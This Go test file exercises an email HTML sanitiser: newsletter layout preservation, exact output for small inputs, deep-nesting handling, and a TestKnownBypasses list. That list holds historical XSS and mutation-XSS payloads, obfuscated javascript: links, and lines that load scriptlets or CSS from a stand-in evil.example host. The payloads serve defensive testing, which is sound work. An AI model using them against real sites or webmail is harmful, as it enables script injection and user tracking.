package message

import (
	"os"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
	"github.com/google/go-cmp/cmp"
)

func parseFragment(t *testing.T, fragment string) *goquery.Document {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader("<!DOCTYPE html><html><head></head><body>" + fragment + "</body></html>"))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

func readNewsletter(t testing.TB) string {
	t.Helper()
	b, err := os.ReadFile("testdata/newsletter.html")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestSanitizeNewsletter checks that the layout of a typical newsletter
// survives: tables and their attributes, inline styles, classes with their
// style sheet, fonts, links.
func TestSanitizeNewsletter(t *testing.T) {
	t.Parallel()
	s := SanitizeHTML(readNewsletter(t), SanitizeOptions{})
	if !s.RemoteBlocked {
		t.Errorf("RemoteBlocked = false, the newsletter has remote images")
	}
	if p := sanitizedProblems(s.HTML, false); len(p) > 0 {
		t.Fatalf("problems: %v", p)
	}
	doc := parseFragment(t, s.HTML)

	// The subtests read doc, which is replaced below: they run in turn.
	attrs := func(t *testing.T, sel string, names ...string) []string {
		t.Helper()
		el := doc.Find(sel).First()
		if el.Length() == 0 {
			t.Errorf("no %s", sel)
			return nil
		}
		var out []string
		for _, n := range names {
			v, _ := el.Attr(n)
			out = append(out, n+"="+v)
		}
		return out
	}
	for _, tc := range []struct {
		sel   string
		attrs []string
		want  []string
	}{
		{"table.m_main", []string{"width", "cellpadding", "cellspacing", "border", "align", "bgcolor"},
			[]string{"width=600", "cellpadding=0", "cellspacing=0", "border=0", "align=center", "bgcolor=#ffffff"}},
		{"table.m_column", []string{"width", "align"}, []string{"width=300", "align=left"}},
		{"td[bgcolor]", []string{"bgcolor", "style"},
			[]string{"bgcolor=#1a1a1a", "style=padding: 24px 32px; background-color: #1a1a1a; text-align: center"}},
		{"h1.m_title", []string{"style"}, []string{"style=font-family: Helvetica,Arial,sans-serif"}},
		{"a.m_button", []string{"href", "target", "rel", "style"}, []string{
			"href=https://news.example.com/articles/1?utm_campaign=weekly", "target=_blank", "rel=noopener noreferrer nofollow",
			"style=background-color: #e85d04; color: #ffffff; padding: 12px 24px; border-radius: 4px; display: inline-block; text-decoration: none"}},
		{"a.mailto", []string{"href"}, []string{"href=mailto:editor@news.example.com?subject=Feedback"}},
		{"font", []string{"face", "size", "color"}, []string{"face=Arial, sans-serif", "size=1", "color=#999999"}},
		{"img[alt='Article 1']", []string{"width", "style", "src"},
			[]string{"width=280", "style=width: 100%; max-width: 280px; height: auto; border-radius: 6px", "src="}},
	} {
		t.Run(tc.sel, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, attrs(t, tc.sel, tc.attrs...)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	if got := doc.Find("table").Length(); got != 41 {
		t.Errorf("%d tables, want 41", got)
	}
	if got := doc.Find("center.m_wrapper").Length(); got != 1 {
		t.Errorf("%d center.m_wrapper, want 1", got)
	}
	sheet := doc.Find("style").Text()
	for _, want := range []string{
		".m_main{background-color:#ffffff;margin:0 auto;width:100%;max-width:600px;border-spacing:0;font-family:Georgia, \"Times New Roman\", serif;color:#4a4a4a}",
		"h1.m_title{font-size:28px;line-height:1.2;color:#1a1a1a!important;margin:0 0 12px 0}",
		"@media screen and (max-width: 600px){.m_main{width:100%!important}",
		".m_two-columns .m_column{max-width:100%!important;display:block!important}",
		".m_footer p, .m_footer a{font-size:12px;color:#999999!important}",
	} {
		if !strings.Contains(sheet, want) {
			t.Errorf("style sheet lacks %q:\n%s", want, sheet)
		}
	}
	// The preheader stays hidden, the body background survives.
	if got, _ := doc.Find("div").Eq(1).Attr("style"); !strings.HasPrefix(got, "display: none") {
		t.Errorf("preheader style = %q", got)
	}
	if got, _ := doc.Find("body > div").First().Attr("style"); !strings.Contains(got, "background-color: #f4f4f4") {
		t.Errorf("body wrapper style = %q", got)
	}

	remote := SanitizeHTML(readNewsletter(t), SanitizeOptions{AllowRemote: true})
	if remote.RemoteBlocked {
		t.Errorf("RemoteBlocked with remote allowed")
	}
	doc = parseFragment(t, remote.HTML)
	if src, _ := doc.Find("img[alt='Article 1']").Attr("src"); src != "https://cdn.news.example.com/articles/1/thumb.jpg" {
		t.Errorf("remote src = %q", src)
	}
}

// TestSanitizeHTML pins down exact output for small inputs.
func TestSanitizeHTML(t *testing.T) {
	t.Parallel()
	const png = "data:image/png;base64,iVBORw0KGgo="
	cid := func(id string) (string, bool) {
		switch id {
		case "logo@x":
			return png, true
		case "svg@x":
			return "data:image/svg+xml;base64,PHN2Zy8+", true
		case "remote@x":
			return "https://evil.example/x.png", true
		}
		return "", false
	}
	for _, tc := range []struct {
		name    string
		in      string
		remote  bool
		want    string
		blocked bool
		cids    []string
	}{
		{name: "text escaped", in: `a &lt;b&gt; & "c"`, want: `a &lt;b&gt; &amp; &#34;c&#34;`},
		{name: "script dropped", in: `<p>x<script>alert(1)</script>y</p>`, want: `<p>xy</p>`},
		{name: "unknown element unwrapped", in: `<o:p>keep</o:p><custom-el a=b>me</custom-el>`, want: `keepme`},
		{name: "form unwrapped, controls dropped", in: `<form action=x><b>t</b><input value=v><button>Go</button></form>`, want: `<b>t</b>Go`},
		{name: "link", in: `<a href="HTTPS://Example.COM/a b?c=d#e" title="t" onclick="x">l</a>`,
			want: `<a href="https://Example.COM/a%20b?c=d#e" target="_blank" rel="noopener noreferrer nofollow" title="t">l</a>`},
		{name: "spaces in a query", in: `<a href="https://x.example/?q=a b">q</a><a href="mailto:a@b.example?subject=hello there">m</a>`,
			want: `<a href="https://x.example/?q=a%20b" target="_blank" rel="noopener noreferrer nofollow">q</a><a href="mailto:a@b.example?subject=hello%20there" class="mailto">m</a>`},
		{name: "mailto link", in: `<a href="mailto:a@b.example?subject=hi">m</a>`, want: `<a href="mailto:a@b.example?subject=hi" class="mailto">m</a>`},
		{name: "relative link unwrapped", in: `<a href="/x">r</a><a href="#top">f</a><a name="n">n</a>`, want: `rfn`},
		{name: "javascript link unwrapped", in: `<a href="jav&#x09;ascript:alert(1)">j</a>`, want: `j`},
		{name: "remote image blocked", in: `<img src="https://t.example/p.gif" alt="a" width="1">`, want: `<img alt="a" width="1">`, blocked: true},
		{name: "remote image allowed", in: `<img src="https://t.example/p.gif" alt="a">`, remote: true,
			want: `<img src="https://t.example/p.gif" referrerpolicy="no-referrer" alt="a">`},
		{name: "protocol-relative image is remote", in: `<img src="//t.example/p.gif">`, want: ``, blocked: true},
		{name: "cid image", in: `<img src="cid:logo@x">`, want: `<img src="` + png + `">`, cids: []string{"logo@x"}},
		{name: "cid in angle brackets, escaped", in: `<img src="cid:%3Clogo@x%3E">`, want: `<img src="` + png + `">`, cids: []string{"logo@x"}},
		{name: "unknown cid", in: `<img src="cid:nope@x" alt="n">`, want: `<img alt="n">`},
		{name: "cid mapper returning svg refused", in: `<img src="cid:svg@x" alt="s">`, want: `<img alt="s">`},
		{name: "cid mapper returning a URL refused", in: `<img src="cid:remote@x" alt="r">`, want: `<img alt="r">`},
		{name: "data image normalised", in: `<img src="DATA:image/PNG;name=x.png;base64,iVBO Rw0K Ggo=">`, want: `<img src="` + png + `">`},
		{name: "svg data image dropped", in: `<img src="data:image/svg+xml;base64,PHN2Zy8+">`, want: ``},
		{name: "srcset dropped", in: `<img src="` + png + `" srcset="https://t.example/2x.png 2x">`, want: `<img src="` + png + `">`},
		{name: "background attribute blocked", in: `<table background="https://t.example/bg.png"><tr><td>x</td></tr></table>`,
			want: `<table><tbody><tr><td>x</td></tr></tbody></table>`, blocked: true},
		{name: "background attribute allowed becomes style", in: `<table background="https://t.example/bg.png" style="color:red"><tr><td>x</td></tr></table>`, remote: true,
			want: `<table style="background-image: url(&#34;https://t.example/bg.png&#34;); color: red"><tbody><tr><td>x</td></tr></tbody></table>`},
		{name: "body attributes become a wrapper", in: `<body bgcolor="eeeeee" text="#333" style="margin:0"><p>x</p></body>`,
			want: `<div style="background-color: #eeeeee; color: #333; margin: 0"><p>x</p></div>`},
		{name: "table attributes", in: `<table width="100%" cellpadding="4" border="1" align="CENTER" bgcolor="red" summary="s" onclick="x"><tr valign="top"><td colspan="2" nowrap="nowrap" width="50%">c</td></tr></table>`,
			want: `<table width="100%" cellpadding="4" border="1" align="center" bgcolor="red"><tbody><tr valign="top"><td colspan="2" nowrap="" width="50%">c</td></tr></tbody></table>`},
		{name: "bad attribute values dropped", in: `<td width="expression(1)">`, want: ``},
		{name: "classes and ids prefixed", in: `<div class="a b-c  d&quot;e" id="main">x</div>`, want: `<div id="m_main" class="m_a m_b-c">x</div>`},
		{name: "style filtered", in: `<p style="color:red; position:fixed; z-index:9; background:url(x.png); font:12px/1.5 'A B', serif">x</p>`,
			want: `<p style="color: red; font: 12px/1.5 &#34;A B&#34;, serif">x</p>`},
		{name: "style with remote url blocked", in: `<p style="background:#fff url(https://t.example/a.png)">x</p>`,
			want: `<p style="background: #fff none">x</p>`, blocked: true},
		{name: "style block kept first", in: `<p class="x">a</p><style>.x{color:red;position:fixed}</style>`,
			want: "<style>\n.m_x{color:red}\n</style>\n<p class=\"m_x\">a</p>"},
		{name: "pre keeps its leading newline", in: "<pre>\n\nx</pre>", want: "<pre>\n\nx</pre>"},
		{name: "comments dropped", in: `a<!-- secret -->b`, want: `ab`},
		{name: "lists", in: `<ol type="a" start="3" reversed><li value="5">x</li></ol><ul type="SQUARE"><li>y</li></ul>`,
			want: `<ol type="a" start="3" reversed=""><li value="5">x</li></ol><ul type="square"><li>y</li></ul>`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s := SanitizeHTML(tc.in, SanitizeOptions{AllowRemote: tc.remote, CID: cid})
			if diff := cmp.Diff(tc.want, s.HTML); diff != "" {
				t.Errorf("HTML (-want +got):\n%s", diff)
			}
			if s.RemoteBlocked != tc.blocked {
				t.Errorf("RemoteBlocked = %v, want %v", s.RemoteBlocked, tc.blocked)
			}
			if diff := cmp.Diff(tc.cids, s.CIDs); diff != "" {
				t.Errorf("CIDs (-want +got):\n%s", diff)
			}
			if p := sanitizedProblems(s.HTML, tc.remote); len(p) > 0 {
				t.Errorf("problems: %v", p)
			}
		})
	}
}

// TestSanitizeDeepNesting checks that absurd nesting is flattened rather
// than passed on (browsers cap the depth of their tree and would re-parent
// deeper elements differently), and that nesting the parser refuses still
// shows the text.
func TestSanitizeDeepNesting(t *testing.T) {
	t.Parallel()
	in := strings.Repeat("<div>", 400) + "x" + strings.Repeat("</div>", 400)
	s := SanitizeHTML(in, SanitizeOptions{})
	if got := strings.Count(s.HTML, "<div>"); got != maxHTMLDepth {
		t.Errorf("%d divs, want %d", got, maxHTMLDepth)
	}
	if !strings.Contains(s.HTML, "x") {
		t.Errorf("text lost")
	}

	in = strings.Repeat("<div><b>", 5000) + "deep &amp; <script>alert(1)</script><input>text" + strings.Repeat("</b></div>", 5000)
	s = SanitizeHTML(in, SanitizeOptions{})
	if diff := cmp.Diff("<pre>deep &amp; text</pre>", s.HTML); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestKnownBypasses runs payloads that broke HTML sanitisers in the past
// (mostly DOMPurify and webmail advisories) through SanitizeHTML.
func TestKnownBypasses(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
		`<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
		`<noscript><style></noscript><img src=x onerror=alert(1)>`,
		`<table><caption><svg><title><style></table><img src=x onerror=alert(1)>`,
		`<a href="&#14;javascript:alert(1)">x</a><a href="javascript&#x3a;alert(1)">y</a><a href=" &#x0A;javascript:alert(1)">z</a>`,
		`<div id="x"><img src=x name=getElementById></div><form id=location><input name=href></form>`,
		`<img src="x" style="x:expression(alert(1))"><xss style="behavior: url(xss.htc);">`,
		`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
		`<div style="background-image: url(&#1;javascript:alert(1))">x</div>`,
		`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
		`<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object><embed code="https://evil.example/x.swf">`,
		`<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"></use></svg>`,
		`<marquee onstart=alert(1)>x</marquee><video><source onerror="alert(1)"></video>`,
		`<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>`,
		`<style>@import'https://evil.example/x.css';</style><style>*{background:url(//evil.example/y)}</style>`,
		`<style>@\69mport url(https://evil.example/x.css);</style>`,
		`<style>a{background:u\rl(https://evil.example/z)}</style>`,
		`<p style="font-family:'\27 ;background:url(https://evil.example/q)'">x</p>`,
		`<a href="http://example.com/"><img src="x" onerror="alert(1)" /></a><a/href="javascript:alert(2)">w</a>`,
		`<div style="background:url('https://evil.example/a'), url(javascript:alert(1))">x</div>`,
		`<base href="javascript:/"><a href="/.alert(1)">x</a>`,
		`<template><script>alert(1)</script></template><slot name=x></slot>`,
		`<details open ontoggle=alert(1)><summary>x</summary></details><dialog open onclose=alert(1)>d</dialog>`,
		`<input type="hidden" accesskey="X" onclick="alert(1)"><button popovertarget=x>b</button><div popover id=x>p</div>`,
		"<a href=\"java\u0000script:alert(1)\">nul</a><a href=\"\u2028javascript:alert(1)\">ls</a>",
	} {
		for _, remote := range []bool{false, true} {
			s := SanitizeHTML(in, SanitizeOptions{AllowRemote: remote})
			if p := sanitizedProblems(s.HTML, remote); len(p) > 0 {
				t.Errorf("remote=%v %q:\n%v\noutput: %q", remote, in, p, s.HTML)
			}
		}
	}
}
